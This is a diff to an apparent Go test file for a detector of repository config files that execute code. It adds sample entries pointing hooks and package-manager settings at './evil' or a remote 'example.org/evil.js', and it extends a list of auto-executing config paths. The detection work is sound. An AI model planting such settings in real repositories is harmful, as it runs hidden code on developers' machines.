@@ -131,7 +131,8 @@ func Cases() []Case {
 		{".ansible-lint", "rulesdir: [.]"}, {".gitlint", "extra-path=evil.py"}, {".secrets.baseline", "file://evil.py"}, {".project", "<name>org.eclipse.ui.externaltools.ExternalToolBuilder</name>"},
 		{"pnpm-workspace.yaml", "scriptShell: ./evil"}, {".htaccess", "php_value auto_prepend_file evil.php"},
 		{".sdkmanrc", "java=../../../../p/evil"}, {".opentofu-version", "../../p/evil"}, {".versions.conf", "env-RUBYOPT=-r./evil"}, {"Gemfile", "#ruby-env-RUBYOPT=-r./evil"}, {"global.json", "{\"sdk\": {\"paths\": [\"./evil\"]}}"},
-		{".moon/workspace.yml", "vcs: {hooks: {pre-commit: [./evil]}}"},
+		{".moon/workspace.yml", "vcs: {hooks: {pre-commit: [./evil]}}"}, {"debian/gbp.conf", "postclone = ./evil"},
+		{"composer.json", `{"extra": {"hooks": {"pre-commit": "./evil"}}}`}, {"package.json", `{"packageManager": "yarn@https:\/\/example.org/evil.js"}`},
 	} {
 		add(line[0], line[1])
 	}
@@ -181,4 +182,5 @@ user.bazelrc .aspect/cli/config.yaml .buckconfig.d/x .pants.bootstrap .plzconfig
 .rultor.yml garnix.yaml .crow.yaml .cnb.yml .yamato/x.yml .ci-operator.yaml .depot/workflows/x.yml .workflow/x.yml .pipelines/x.yml common/git-hooks/pre-commit .wtp.yml
 jupyter_server_config.py jupyter_notebook_config.json .murex_profile .config/oils/oshrc .ptpython/config.py .chef/knife.rb .duckdbrc .usqlrc
 lsp.json .github/lsp.json .github/copilot/settings.json .github/extensions/x/extension.mjs .commandcode/x .kode/settings.json .superset/config.json .workmux.yaml .gtrconfig .ropeproject/config.py
-.pyre_configuration .calva/config.edn .bloop/x.json Steepfile .jrubyrc .hooks/pre-commit nano-staged.mjs cz.yaml .tmux-sessionizer .vimrc_local.vim .cursor-server/x .mavenrc .config/neofetch/config.conf`
+.pyre_configuration .calva/config.edn .bloop/x.json Steepfile .jrubyrc .hooks/pre-commit nano-staged.mjs cz.yaml .tmux-sessionizer .vimrc_local.vim .cursor-server/x .mavenrc .config/neofetch/config.conf
+.opencode.json .kilo/x kilo.json .beads/hooks/x .tmuxinator.yml .config/user-tmpfiles.d/x.conf .local/share/vulkan/implicit_layer.d/x.json .gtkrc-2.0 .subversion/config .mrconfig .quiltrc .devscripts .config/hg/hgrc`
